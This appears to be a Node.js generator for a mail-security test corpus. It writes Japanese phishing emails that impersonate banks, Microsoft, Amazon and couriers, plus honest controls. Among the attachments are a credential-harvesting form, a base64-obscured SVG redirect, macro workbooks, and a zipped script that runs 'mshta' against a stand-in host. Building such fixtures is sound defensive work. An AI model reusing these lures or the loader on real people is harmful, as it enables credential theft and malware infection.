/** Writes the samples whose point is what is inside of them: node corpus/make/inside.mjs, after `npm run build`. Expectations stand beside
    the samples and are written by hand. What it needs: files.mjs. */
import { writeFileSync } from 'node:fs'
import { compressedRtf, rtfFromHtml } from '../../packages/readers/samples/outlook/rtf.mjs'
import { tnef } from '../../packages/readers/samples/tnef/make.mjs'
import { docx, lockedZip, pdf, photo, qrPng, qrTable, screenshot, workbook, zip } from './files.mjs'
import { arrival, html, leaf, mail, multi, plain, word } from './wire.mjs'

const folder = new URL('../inside/', import.meta.url)
const READER = ['', 'hanako@reader.example']
const B64 = { cte: 'base64', charset: '' }
const TYPES = {
  pdf: 'application/pdf',
  html: 'text/html',
  svg: 'image/svg+xml',
  zip: 'application/zip',
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  xlsm: 'application/vnd.ms-excel.sheet.macroEnabled.12',
  ics: 'text/calendar',
  vcf: 'text/vcard',
  jpg: 'image/jpeg',
  url: 'application/octet-stream',
  dat: 'application/ms-tnef',
}

/** Parts: the text, then files, [name, bytes]. */
const named = (name) => `"${word(name)}"`
const file = ([name, data]) =>
  leaf(TYPES[name.split('.').at(-1)] ?? 'application/octet-stream', Buffer.from(data), {
    ...B64,
    params: `; name=${named(name)}`,
    headers: [`Content-Disposition: attachment; filename=${named(name)}`],
  })
const withFiles = (text, ...files) => multi('mixed', '----=_Part_7120_5521.1763', [text, ...files.map(file)])
/** HTML with pictures in their place, [content id, type, bytes]. */
const withPictures = (page, ...pictures) =>
  multi('related', '----=_Part_3301_1188.1763', [
    html(page),
    ...pictures.map(([id, type, data]) =>
      leaf(type, data, { ...B64, headers: [`Content-ID: <${id}>`, `Content-Disposition: inline; filename="${id.split('@')[0]}"`] }),
    ),
  ])

let number = 0
/** From a machine of its own, which nobody vouches for unless `proved`. */
function letter({ from, host = from[1].split('@')[1], subject, day, body, proved = false, ip = `192.0.2.${20 + number}`, top }) {
  const date = `${day} +0900`
  const [, address] = from
  const domain = address.split('@')[1]
  const auth = proved
    ? [
        `spf=pass smtp.mailfrom=${address}`,
        `dkim=pass header.d=${domain} header.s=s1 header.b=Qm3xTz1A`,
        `dmarc=pass (p=reject) header.from=${domain}`,
      ]
    : undefined
  number++
  return mail({
    top: top ?? arrival({ helo: `mx.${host}`, ip, envelope: address, date, auth }),
    from,
    to: READER,
    subject,
    date,
    id: `20261116.${1000 + number}@${host}`,
    body,
  })
}
const write = async (slug, make) => writeFileSync(new URL(`${slug}.eml`, folder), await make())

// ---- Codes

await write('microsoft-code-picture', () =>
  letter({
    from: ['Microsoft アカウント チーム', 'notice@ninsho-koshin.example'],
    subject: '【要対応】二段階認証の有効期限が本日で切れます',
    day: 'Mon, 16 Nov 2026 08:41:00',
    body: withPictures(
      `<p>花子 様</p><p>Microsoft 365 の二段階認証（多要素認証）の設定が、本日 23:59 に期限切れとなります。</p>
<p>期限を過ぎると、Outlook と Teams にサインインできなくなります。スマートフォンのカメラで下のコードを読み取り、再認証を完了してください。</p>
<p><img src="cid:code.png@ninsho" width="185" alt=""></p>
<p>このコードは 24 時間有効です。<br>Microsoft アカウント チーム</p>`,
      ['code.png@ninsho', 'image/png', qrPng('https://ninsho-koshin.example/m365?u=hanako')],
    ),
  }),
)

await write('smbc-bank-code-picture', () =>
  letter({
    from: ['三井住友銀行', 'info@torihiki-kaijo.example'],
    subject: 'お取引を一時的に制限いたしました',
    day: 'Mon, 16 Nov 2026 11:05:00',
    body: withPictures(
      `<p>いつも三井住友銀行をご利用いただき、ありがとうございます。</p>
<p>お客さまの口座で普段と異なるご利用があったため、振込とログインを一時的に制限しております。</p>
<p>制限の解除には、スマートフォンで下の二次元コードを読み取り、ご本人さまの確認をお願いいたします。お手続きがない場合、口座は凍結されます。</p>
<p><img src="cid:kaijo.png@smbc" width="200" alt="二次元コード"></p><p>株式会社三井住友銀行</p>`,
      ['kaijo.png@smbc', 'image/png', qrPng('https://direct.torihiki-kaijo.example/honnin')],
    ),
  }),
)

await write('docusign-code-table', () =>
  letter({
    from: ['DocuSign', 'dse@sign-desk-hr.example'],
    subject: 'Action required: sign the revised salary agreement today',
    day: 'Tue, 17 Nov 2026 16:20:00',
    body: html(`<p>Hanako,</p><p>Your employer has sent you a document with DocuSign: <b>Salary agreement 2027 (revised)</b>.
It must be signed today, or the previous terms expire.</p>
<p>To protect the document it opens on a phone only. Scan the code with your camera and sign in with your work account and password.</p>
${qrTable('https://sign-desk-hr.example/d/7731')}
<p>Do not share this message. DocuSign</p>`),
  }),
)

await write('mizuho-bank-code-in-pdf', () =>
  letter({
    from: ['みずほ銀行', 'oshirase@kokyaku-kakunin.example'],
    subject: 'お客さま情報の確認のお願い（重要）',
    day: 'Tue, 17 Nov 2026 09:12:00',
    body: withFiles(
      plain(`みずほ銀行からの重要なお知らせです。

添付の案内状をご確認のうえ、本日中にお手続きをお願いいたします。
お手続きがない場合、お取引を停止することがあります。

株式会社みずほ銀行
`),
      [
        'お客さま情報の確認.pdf',
        pdf({
          lines: [
            [60, 760, 20, 'お客さま情報の確認のお願い'],
            [60, 715, 12, 'みずほ銀行をご利用いただき、ありがとうございます。'],
            [60, 690, 12, 'スマートフォンで下のコードを読み取り、お客さま情報をご確認ください。'],
            [60, 500, 12, '株式会社みずほ銀行'],
          ],
          code: { says: 'https://kokyaku-kakunin.example/mz/start', x: 60, y: 525 },
        }),
      ],
    ),
  }),
)

// ---- Pictures of text

await write('amazon-picture-pressed', async () =>
  letter({
    from: ['お客様サービス', 'service@kaiin-koshin.example'],
    subject: 'ご確認ください',
    day: 'Wed, 18 Nov 2026 07:30:00',
    body: withPictures('<a href="https://kaiin-koshin.example/pay"><img src="cid:oshirase.png@kaiin" alt=""></a>', [
      'oshirase.png@kaiin',
      'image/png',
      await screenshot(`<p style="font-size:26px"><b>Amazon</b></p><p>Amazonプライムの会費のお支払いに問題が発生しました。</p>
<p>24時間以内にお支払い方法を更新されない場合、アカウントを停止いたします。</p>
<p style="background:#fc0;padding:8px 16px;text-align:center">お支払い方法を更新する</p>`),
    ]),
  }),
)

await write('rakuten-card-picture-with-address', async () =>
  letter({
    from: ['カード事務局', 'jimukyoku@card-riyou.example'],
    subject: '【重要】カードご利用の一時停止について',
    day: 'Wed, 18 Nov 2026 12:02:00',
    body: withPictures('<img src="cid:p1.png@card" alt="">', [
      'p1.png@card',
      'image/png',
      await screenshot(`<p><b>楽天カード株式会社</b></p><p>楽天カードのご利用を一時停止しました。</p>
<p>下記のページからご本人様確認をお願いします。</p><p style="font-family:'DejaVu Sans'">https://card-riyou.example/kakunin</p>`),
    ]),
  }),
)

// ---- PDF

await write('smbc-card-pdf-button', () =>
  letter({
    from: ['三井住友カード', 'meisai@riyou-shokai.example'],
    subject: '【三井住友カード】ご利用内容の確認のお願い',
    day: 'Thu, 19 Nov 2026 10:10:00',
    body: withFiles(
      plain(`三井住友カードをご利用いただき、ありがとうございます。

お客様のカードで第三者による不正利用の疑いがある取引を検知しました。
添付の書類をご覧になり、24時間以内に確認のお手続きをお願いいたします。

三井住友カード株式会社
`),
      [
        'ご利用内容.pdf',
        pdf({
          lines: [
            [60, 760, 18, '三井住友カード　ご利用内容の確認'],
            [60, 720, 12, 'ご利用日：2026年11月18日　ご利用金額：98,400円'],
            [60, 698, 12, 'お心当たりのない場合は、下のボタンから取引の取消をお手続きください。'],
            [90, 655, 14, '取引を確認・取消する'],
          ],
          links: [[60, 645, 220, 34, 'https://vpass.riyou-shokai.example/login']],
        }),
      ],
    ),
  }),
)

await write('rakuten-card-only-in-pdf', () =>
  letter({
    from: ['', 'k-tanabe@soushin-office.example'],
    subject: 'ご請求の件',
    day: 'Thu, 19 Nov 2026 15:44:00',
    body: withFiles(plain('添付をご確認ください。\n'), [
      'goannai.pdf',
      pdf({
        lines: [
          [60, 760, 18, '楽天カード株式会社'],
          [60, 720, 12, '【楽天カード】お支払いが確認できませんでした'],
          [60, 698, 12, '本日中にお手続きがない場合、カードの利用を停止いたします。'],
          [60, 676, 12, '下のボタンから楽天e-NAVIにログインし、カード番号を確認してください。'],
          [90, 635, 14, '楽天e-NAVIにログイン'],
        ],
        links: [[60, 625, 220, 34, 'https://e-navi.soushin-office.example/']],
      }),
    ]),
  }),
)

// ---- Pages

await write('microsoft-page-asks-password', () =>
  letter({
    from: ['Microsoft 365', 'admin@kyoyu-bunsho.example'],
    subject: '共有ドキュメント「11月支払予定.xlsx」を受信しました',
    day: 'Fri, 20 Nov 2026 09:03:00',
    body: withFiles(
      plain(`Microsoft 365 で文書が共有されました。

添付のファイルを開き、会社のパスワードでサインインすると表示されます。
このファイルは本日中に削除されます。
`),
      [
        '11月支払予定.xlsx.html',
        `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>サインイン</title></head><body>
<h1>Microsoft</h1><p>Excel オンラインで開くには、サインインしてください。</p>
<form action="https://kyoyu-bunsho.example/x.php" method="post"><input type="email" name="u" value="hanako@reader.example" readonly>
<input type="password" name="p" placeholder="パスワード"><button>サインイン</button></form></body></html>
`,
      ],
    ),
  }),
)

await write('voice-message-page-leaves', () =>
  letter({
    from: ['留守番電話', 'voice@rusuroku.example'],
    subject: '新しい音声メッセージ（00:43）',
    day: 'Fri, 20 Nov 2026 13:27:00',
    body: withFiles(plain('新しい音声メッセージを受信しました。再生するには添付ファイルを開いてください。\n'), [
      '音声メッセージ.html',
      '<html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0; url=https://saisei.rusuroku.example/v?id=5512"></head><body>再生しています…</body></html>\n',
    ]),
  }),
)

await write('invoice-drawing-with-script', () =>
  letter({
    from: ['', 'order@mitsumori-soufu.example'],
    subject: '御見積書送付の件',
    day: 'Sat, 21 Nov 2026 08:15:00',
    body: withFiles(plain('お世話になっております。御見積書をお送りいたしますので、ご査収ください。\n'), [
      '御見積書.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="120"><text x="20" y="60">読み込んでいます…</text>
<script type="application/ecmascript"><![CDATA[window.location.href = atob('${Buffer.from('https://login.mitsumori-soufu.example/o').toString('base64')}');]]></script></svg>
`,
    ]),
  }),
)

// ---- Programs, locks, macros

await write('sagawa-zip-with-script', () =>
  letter({
    from: ['佐川急便', 'todoke@fuzai-renraku.example'],
    subject: '佐川急便よりお荷物のお届けのお知らせ',
    day: 'Sat, 21 Nov 2026 17:50:00',
    body: withFiles(
      plain(`佐川急便です。お荷物をお届けにあがりましたが、ご不在でした。

送り状の内容を添付しますので、本日中にご確認ください。ご確認がない場合、お荷物は返送されます。

佐川急便株式会社
`),
      [
        '送り状.zip',
        zip({
          '送り状_3620-1187.pdf.js': "var s = new ActiveXObject('WScript.Shell');\ns.Run('mshta https://fuzai-renraku.example/a');\n",
        }),
      ],
    ),
  }),
)

await write('invoice-locked-with-password', () =>
  letter({
    from: ['経理担当 岡崎', 'okazaki@keiri-renraku.example'],
    subject: 'Re: 11月分請求書',
    day: 'Sun, 22 Nov 2026 09:40:00',
    body: withFiles(
      plain(`お世話になっております。

11月分の請求書を添付いたします。至急ご確認のうえ、開いたあとに「コンテンツの有効化」を押してください。
解凍パスワード: 7714

岡崎
`),
      ['11月請求書.zip', lockedZip({ 'seikyu_11.xlsm': workbook([['請求書', 128000]], { macro: true }) }, '7714')],
    ),
  }),
)

await write('microsoft-document-button', () =>
  letter({
    from: ['Microsoft SharePoint', 'share@bunsho-kyoyu.example'],
    subject: '総務部があなたと「就業規則_改定.docx」を共有しました',
    day: 'Mon, 23 Nov 2026 10:31:00',
    body: withFiles(plain('Microsoft SharePoint で文書が共有されました。添付をご確認ください。\n'), [
      '就業規則_改定.docx',
      docx(
        [
          'Microsoft SharePoint',
          'この文書は保護されています。本日中に Microsoft アカウントでサインインし、パスワードを入力して内容を確認してください。',
        ],
        { shown: '文書を開く', href: 'https://login.bunsho-kyoyu.example/s/41' },
      ),
    ]),
  }),
)

await write('invoice-workbook-macro', () =>
  letter({
    from: ['株式会社北斗資材', 'eigyo@hokuto-seikyu.example'],
    subject: '請求書（11月分）',
    day: 'Mon, 23 Nov 2026 14:22:00',
    body: withFiles(
      plain(`平素よりお世話になっております。請求書をお送りします。

保護ビューで開いた場合は「編集を有効にする」「コンテンツの有効化」を押してください。至急ご確認をお願いいたします。
`),
      ['請求書_11月.xlsm', workbook([['請求書'], ['品名', '金額'], ['資材一式', 384000]], { macro: true })],
    ),
  }),
)

await write('amazon-shortcut', () =>
  letter({
    from: ['Amazon.co.jp', 'order@chumon-kakunin.example'],
    subject: 'ご注文の確認（注文番号 503-0000000-0000001）',
    day: 'Tue, 24 Nov 2026 06:58:00',
    body: withFiles(
      plain(`Amazon.co.jp をご利用いただき、ありがとうございます。

ご注文の商品 198,000円 を発送します。お心当たりのない場合は、添付の「注文の取消」を開いてお手続きください。
`),
      ['注文の取消.url', '[InternetShortcut]\r\nURL=https://torikeshi.chumon-kakunin.example/\r\n'],
    ),
  }),
)

// ---- Invitations, contacts

await write('paypal-invitation-call', () =>
  letter({
    from: ['PayPal Billing', 'calendar@billing-invite.example'],
    subject: 'Invitation: Payment failed - action required today',
    day: 'Tue, 24 Nov 2026 22:09:00',
    body: multi('mixed', '----=_Part_4410_9.1763', [
      plain('You have been invited to an event.\n'),
      leaf(
        'text/calendar',
        `BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//Billing//EN
METHOD:REQUEST
BEGIN:VEVENT
UID:7731@billing-invite.example
DTSTAMP:20261124T130000Z
DTSTART:20261125T010000Z
DTEND:20261125T013000Z
SUMMARY:Payment failed - PayPal account will be suspended
ORGANIZER;CN=PayPal Billing:mailto:calendar@billing-invite.example
DESCRIPTION:Your PayPal account was charged USD 689.99. If you did not authori
 ze this payment\\, call our support immediately at +1 (888) 555-0142 to cancel
  it within 24 hours. Otherwise your account will be suspended.
END:VEVENT
END:VCALENDAR
`,
        { params: '; method=REQUEST' },
      ),
    ]),
  }),
)

await write('amazon-contact-card', () =>
  letter({
    from: ['Amazon カスタマーサービス', 'cs@okyaku-madoguchi.example'],
    subject: 'ご注文の返金について',
    day: 'Wed, 25 Nov 2026 12:45:00',
    body: withFiles(
      plain(`Amazon カスタマーサービスです。

お支払いに問題があり、アカウントが停止されています。返金のお手続きには、添付の連絡先を登録のうえ、本日中にお電話ください。
`),
      [
        'Amazonサポート.vcf',
        `BEGIN:VCARD
VERSION:3.0
FN:Amazon サポート
N:サポート;Amazon;;;
ORG:Amazon
TEL;TYPE=WORK:050-0000-0142
URL:https://okyaku-madoguchi.example/henkin
NOTE:返金のお手続きはお電話で。カード番号をお手元にご用意ください。
END:VCARD
`,
      ],
    ),
  }),
)

// ---- Mails in other forms

const etcFake = letter({
  from: ['ETC利用照会サービス', 'info@etc-koshin-tetsuzuki.example'],
  subject: 'ETCサービスは無効になりました',
  day: 'Wed, 25 Nov 2026 03:11:00',
  body: html(`<p>ETC利用照会サービスをご利用のお客様</p><p>お客様のETCサービスは無効になりました。引き続きご利用いただくには、24時間以内にカード情報を更新してください。</p>
<p><a href="https://etc-koshin-tetsuzuki.example/login">サービスを再開する</a></p>`),
})

await write('winmail-with-fake', () => {
  const page =
    '<html><body><p>PayPayカードをご利用いただき、ありがとうございます。</p><p>PayPayのアカウントで不審なログインが確認されたため、利用を停止しました。</p>' +
    '<p>本日中に<a href="https://paypay.riyou-saikai.example/login">こちらからログイン</a>し、パスワードを再設定してください。</p></body></html>'
  const properties = { 26: 'IPM.Note', 55: 'PayPayからの重要なお知らせ', 4105: compressedRtf(rtfFromHtml(page)) }
  return letter({
    from: ['PayPay', 'info@riyou-saikai.example'],
    subject: 'PayPayからの重要なお知らせ',
    day: 'Thu, 26 Nov 2026 08:00:00',
    body: withFiles(plain('\n'), ['winmail.dat', tnef({ properties })]),
  })
})

await write('zip-with-mail', () =>
  letter({
    from: ['', 'bunsho-tenso@soufu-box.example'],
    subject: '書類の転送',
    day: 'Thu, 26 Nov 2026 11:36:00',
    body: withFiles(plain('書類を転送します。中のメールを開いてお手続きください。\n'), ['書類.zip', zip({ 'oshirase.eml': etcFake })]),
  }),
)

await write('person-forwards-attached-mail', () => {
  const inner = letter({
    from: ['SBI証券', 'security@shisan-hogo.example'],
    subject: '【SBI証券】お客様の資産を保護するための再認証のお願い',
    day: 'Thu, 26 Nov 2026 05:20:00',
    body: plain(`SBI証券をご利用のお客様

第三者による不正アクセスを検知したため、お取引を制限しました。
24時間以内に下記から再認証を行わない場合、口座を凍結いたします。

https://sbi.shisan-hogo.example/login

株式会社SBI証券
`),
  })
  return letter({
    from: ['佐野 正', 'tadashi.sano@midori-works.example'],
    subject: 'このメール本物でしょうか',
    day: 'Thu, 26 Nov 2026 12:15:00',
    proved: true,
    body: multi('mixed', '----=_Part_88_1.1763', [
      plain('花子さん\n\nけさ届いたメールです。本物かどうか見てもらえますか。\n\n佐野\n'),
      {
        headers: ['Content-Type: message/rfc822', 'Content-Disposition: attachment'],
        body: inner,
      },
    ]),
  })
})

await write('fake-carries-genuine-mail', () =>
  letter({
    from: ['楽天カード', 'info@card-anzen-center.example'],
    subject: '【楽天カード】カードの利用を停止しました',
    day: 'Fri, 27 Nov 2026 07:07:00',
    body: multi('mixed', '----=_Part_90_2.1763', [
      plain(`楽天カードをご利用いただき、ありがとうございます。

先日お送りしたお知らせ（添付）のお手続きが確認できないため、カードの利用を停止しました。
本日中に下記から本人確認を行ってください。

https://card-anzen-center.example/kakunin

楽天カード株式会社
`),
      {
        headers: ['Content-Type: message/rfc822', 'Content-Disposition: attachment'],
        body: letter({
          from: ['楽天カード', 'info@mail.rakuten-card.co.jp'],
          subject: 'カード利用のお知らせ',
          day: 'Fri, 20 Nov 2026 10:00:00',
          body: plain(
            '楽天カードをご利用いただき、ありがとうございます。\n\n■利用日: 2026/11/19\n■利用金額: 2,480 円\n\nhttps://www.rakuten-card.co.jp/e-navi/\n',
          ),
        }),
      },
    ]),
  }),
)

// ---- Honest

await write('smbc-card-statement-pdf', () =>
  letter({
    from: ['三井住友カード', 'statement@vpass.ne.jp'],
    host: 'vpass.ne.jp',
    subject: '【三井住友カード】12月お支払金額のお知らせ',
    day: 'Fri, 20 Nov 2026 09:00:00',
    proved: true,
    body: withFiles(
      plain(`花子 様

いつも三井住友カードをご利用いただき、ありがとうございます。
12月のお支払金額のご案内を添付いたします。明細はVpassでもご確認いただけます。
https://www.smbc-card.com/

三井住友カード株式会社
`),
      [
        'goriyou-meisai.pdf',
        pdf({
          lines: [
            [60, 760, 18, 'ご利用代金明細書'],
            [60, 720, 12, '三井住友カード株式会社'],
            [60, 690, 12, 'お支払日　2026年12月10日　お支払金額　24,310円'],
            [60, 660, 12, 'AMAZON.CO.JP　2,480円'],
            [60, 620, 12, '三井住友カードのホームページ'],
          ],
          links: [[60, 615, 200, 18, 'https://www.smbc-card.com/mem/index.jsp']],
        }),
      ],
    ),
  }),
)

await write('colleague-invitation', () =>
  letter({
    from: ['佐野 正', 'tadashi.sano@midori-works.example'],
    subject: '招待: 新製品の打ち合わせ',
    day: 'Mon, 16 Nov 2026 10:00:00',
    proved: true,
    body: multi('mixed', '----=_Part_4411_9.1763', [
      plain('佐野です。新製品の打ち合わせの招待を送ります。都合が悪ければ知らせてください。\n'),
      leaf(
        'text/calendar',
        `BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//Midori Works//JA
METHOD:REQUEST
BEGIN:VEVENT
UID:551@midori-works.example
DTSTAMP:20261116T010000Z
DTSTART:20261120T050000Z
DTEND:20261120T060000Z
SUMMARY:新製品の打ち合わせ
LOCATION:第2会議室
ORGANIZER;CN=佐野 正:mailto:tadashi.sano@midori-works.example
DESCRIPTION:資料は当日お持ちします。遠隔の方は https://meet.midori-works.exa
 mple/551 から。
END:VEVENT
END:VCALENDAR
`,
        { params: '; method=REQUEST' },
      ),
    ]),
  }),
)

await write('firm-invoice-names-amazon', () =>
  letter({
    from: ['みどり製作所 経理', 'keiri@midori-works.example'],
    subject: '請求書送付のご案内（11月分）',
    day: 'Tue, 24 Nov 2026 16:00:00',
    proved: true,
    body: withFiles(
      plain(`お世話になっております。みどり製作所の上田です。

11月分の請求書をお送りいたします。ご査収のほど、よろしくお願いいたします。
`),
      [
        '請求書_2026-11.pdf',
        pdf({
          lines: [
            [60, 760, 20, '請求書'],
            [60, 720, 12, '株式会社みどり製作所'],
            [60, 690, 12, '看板製作　一式　120,000円'],
            [60, 670, 12, '部材の立替（Amazonにて購入）　4,980円'],
            [60, 640, 12, '合計　124,980円　お支払期限　2026年12月31日'],
            [60, 610, 12, 'https://www.midori-works.example/'],
          ],
        }),
      ],
    ),
  }),
)

await write('newsletter-banner', async () =>
  letter({
    from: ['こまどり文具店', 'tayori@komadori-bungu.example'],
    subject: 'こまどり文具店だより 12月号',
    day: 'Fri, 27 Nov 2026 18:00:00',
    proved: true,
    body: withPictures(
      `<p><img src="cid:banner.png@komadori" alt="冬の手帳まつり"></p>
<p>こまどり文具店だより12月号をお届けします。今月は、来年の手帳と日記帳を特集しました。紙の厚さ、綴じ方、書き心地を、店の三人が一冊ずつ試して書いています。</p>
<p>万年筆の調整会は12月12日の午後、店の二階で開きます。お手持ちのペンを一本お持ちください。予約はいりませんが、午前中は混み合います。</p>
<p>年賀状の名入れ印刷は12月15日まで承ります。絵柄の見本は店頭と、<a href="https://www.komadori-bungu.example/nenga">店のページ</a>でご覧いただけます。</p>
<p>寒くなってまいりました。どうぞお元気でお過ごしください。</p>
<p><a href="https://www.komadori-bungu.example/kaijo">お便りの停止はこちら</a></p>`,
      [
        'banner.png@komadori',
        'image/png',
        await screenshot(
          '<p style="background:#246;color:#fff;padding:20px;font-size:26px;text-align:center">冬の手帳まつり　11/27〜12/25</p>',
        ),
      ],
    ),
  }),
)

await write('event-ticket-code', () =>
  letter({
    from: ['まちなか音楽祭 事務局', 'ticket@machinaka-ongakusai.example'],
    subject: '入場券をお送りします（12月5日 夜の部）',
    day: 'Wed, 25 Nov 2026 19:30:00',
    proved: true,
    body: withPictures(
      `<p>花子 様</p><p>まちなか音楽祭にお申し込みいただき、ありがとうございます。12月5日 夜の部の入場券です。</p>
<p>当日は入口で、このコードを係の者にお見せください。</p><p><img src="cid:ticket.png@ongakusai" width="185" alt="入場券のコード"></p>
<p>開場 17:30　開演 18:00　自由席 1枚</p><p>会場への行き方: <a href="https://www.machinaka-ongakusai.example/access">ご案内</a></p>`,
      ['ticket.png@ongakusai', 'image/png', qrPng('https://www.machinaka-ongakusai.example/t/8841-20')],
    ),
  }),
)

await write('family-photo-forwarded', () =>
  letter({
    from: ['母', 'yoshiko@sano-family.example'],
    subject: 'Fwd: 紅葉の写真',
    day: 'Sun, 22 Nov 2026 20:11:00',
    body: withFiles(
      plain(`お父さんが撮った写真を送りますね。きれいでしょう。年末は何日に帰ってきますか。

---------- Forwarded message ---------
From: 佐野 茂 <shigeru@sano-family.example>
Date: 2026年11月22日(日) 15:02
Subject: 紅葉の写真
To: 母 <yoshiko@sano-family.example>

丘の上から撮った。
`),
      ['IMG_2041.jpg', photo()],
    ),
  }),
)

await write('friend-screenshot-of-delivery', async () =>
  letter({
    from: ['葵', 'aoi.m@tomodachi-mail.example'],
    subject: 'とどいた',
    day: 'Sat, 28 Nov 2026 10:02:00',
    body: withPictures('<img src="cid:shot.png@aoi" alt="">', [
      'shot.png@aoi',
      'image/png',
      await screenshot(`<p><b>Amazon</b>　配達が完了しました</p><p>Amazonのお荷物を玄関にお届けしました。</p><p>2026/11/28 9:47</p>`),
    ]),
  }),
)

await write('partner-locked-zip-password-later', () =>
  letter({
    from: ['青葉商事 大野', 'ohno@aoba-shoji.example'],
    subject: '図面の送付',
    day: 'Wed, 18 Nov 2026 15:05:00',
    proved: true,
    body: withFiles(
      plain(`お世話になっております。青葉商事の大野です。

先日ご相談した図面をお送りします。添付ファイルは暗号化しております。
パスワードは、このあと別のメールでお送りします。
`),
      ['図面一式.zip', lockedZip({ 'zumen-01.pdf': pdf({ lines: [[60, 760, 18, '図面 01']] }) }, 'aoba-2211')],
    ),
  }),
)

await write('partner-locked-zip-with-password', () =>
  letter({
    from: ['青葉商事 大野', 'ohno@aoba-shoji.example'],
    subject: '見積書の送付',
    day: 'Thu, 19 Nov 2026 15:05:00',
    proved: true,
    body: withFiles(
      plain(`お世話になっております。青葉商事の大野です。

ご依頼の見積書をお送りします。弊社の決まりで暗号化しております。お手数をおかけします。
パスワード：aoba1119
`),
      ['見積書.zip', lockedZip({ 'mitsumori.pdf': pdf({ lines: [[60, 760, 18, '見積書']] }) }, 'aoba1119')],
    ),
  }),
)

await write('dmarc-report', () =>
  letter({
    from: ['', 'dmarc-reports@mx.kamome-mail.example'],
    subject: 'Report Domain: reader.example Submitter: kamome-mail.example Report-ID: 2026.11.25.77120',
    day: 'Thu, 26 Nov 2026 04:00:00',
    proved: true,
    body: withFiles(plain('This is an aggregate DMARC report for reader.example.\n'), [
      'kamome-mail.example!reader.example!1795564800!1795651199.zip',
      zip({
        'kamome-mail.example!reader.example!1795564800!1795651199.xml': `<?xml version="1.0" encoding="UTF-8"?>
<feedback><report_metadata><org_name>kamome-mail.example</org_name><email>dmarc-reports@mx.kamome-mail.example</email><report_id>2026.11.25.77120</report_id></report_metadata>
<policy_published><domain>reader.example</domain><p>quarantine</p></policy_published>
<record><row><source_ip>192.0.2.10</source_ip><count>4</count><policy_evaluated><disposition>none</disposition><dkim>pass</dkim><spf>pass</spf></policy_evaluated></row>
<identifiers><header_from>reader.example</header_from></identifiers></record></feedback>
`,
      }),
    ]),
  }),
)

await write('shop-receipt-page', () =>
  letter({
    from: ['こまどり文具店', 'order@komadori-bungu.example'],
    subject: '領収書をお送りします（ご注文 20261120-14）',
    day: 'Fri, 20 Nov 2026 20:40:00',
    proved: true,
    body: withFiles(plain('お買い上げありがとうございます。領収書を添付しますので、印刷してお使いください。\n\nこまどり文具店\n'), [
      '領収書.html',
      `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>領収書</title><style>body{font-family:sans-serif}</style></head>
<body><h1>領収書</h1><p>佐野 花子 様</p><table><tr><td>手帳</td><td>2,200円</td></tr><tr><td>合計</td><td>2,200円</td></tr></table>
<p>こまどり文具店 <a href="https://www.komadori-bungu.example/">https://www.komadori-bungu.example/</a></p><button onclick="window.print()">印刷</button></body></html>
`,
    ]),
  }),
)

await write('colleague-contact-card', () =>
  letter({
    from: ['佐野 正', 'tadashi.sano@midori-works.example'],
    subject: '連絡先が変わりました',
    day: 'Tue, 17 Nov 2026 13:00:00',
    proved: true,
    body: withFiles(plain('部署が変わり、直通の番号が新しくなりました。連絡先を添付します。\n\n佐野\n'), [
      '佐野正.vcf',
      `BEGIN:VCARD
VERSION:3.0
FN:佐野 正
N:佐野;正;;;
ORG:株式会社みどり製作所;製造部
TEL;TYPE=WORK:03-0000-0110
EMAIL:tadashi.sano@midori-works.example
URL:https://www.midori-works.example/
END:VCARD
`,
    ]),
  }),
)

await write('colleague-macro-workbook', () =>
  letter({
    from: ['上田 京子', 'kyoko.ueda@midori-works.example'],
    subject: '在庫表（11月）',
    day: 'Mon, 30 Nov 2026 17:45:00',
    proved: true,
    body: withFiles(plain('11月末の在庫表です。いつもの集計のマクロが入っています。気になるところがあれば教えてください。\n\n上田\n'), [
      '在庫表_11月.xlsm',
      workbook(
        [
          ['品名', '数'],
          ['板', 120],
          ['ねじ', 4000],
        ],
        { macro: true },
      ),
    ]),
  }),
)
